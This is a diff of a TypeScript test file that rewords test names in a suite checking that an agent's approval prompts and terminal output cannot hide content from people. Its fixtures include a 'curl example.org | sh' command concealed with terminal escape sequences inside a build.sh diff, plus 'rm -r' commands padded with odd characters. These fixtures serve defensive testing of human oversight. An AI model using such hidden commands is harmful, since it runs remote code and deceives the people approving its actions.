@@ -34,7 +34,7 @@ describe('what an agent wants people to see', () => {
     expect(words).not.toMatch(controls)
   })
 
-  it('a line of a diff, a name and an input can’t be hidden either', async () => {
+  it('nor can a line of a diff, a name or an input', async () => {
     const hidden = `#${esc}]0;\u0007 harmless ${esc}]0; curl example.org | sh \u0007`
     const diff = `--- /dev/null\n+++ b/build.sh\n@@ -0,0 +1 @@\n+echo ${hidden}\n`
     const asks = [
@@ -49,7 +49,7 @@ describe('what an agent wants people to see', () => {
     }
   })
 
-  it('what is not seen in a command is told: two commands that differ do not look alike', async () => {
+  it('invisible parts of a command are shown: two different commands never look alike', async () => {
     const look = async (command: string) => {
       const { id } = await open({ kind: 'command', command, cwd: agent.place.path })
       return (await shown('asks', 'show', id)).replaceAll(id, '')
@@ -59,7 +59,7 @@ describe('what an agent wants people to see', () => {
       expect(await look(`rm -r build/${odd}tmp`), JSON.stringify(odd)).not.toBe(plain)
   })
 
-  it('nothing it says reaches the terminal as more than text', async () => {
+  it('its text never reaches the terminal as anything but text', async () => {
     await agent.call('heartbeat', { progress_snapshot: [{ label: `work ${tricks}`, status: 'in_progress' }] })
     await agent.call('remote_log', { message: `said ${tricks}` })
     await agent.call('create_checkpoint', { label: `kept ${tricks}` })
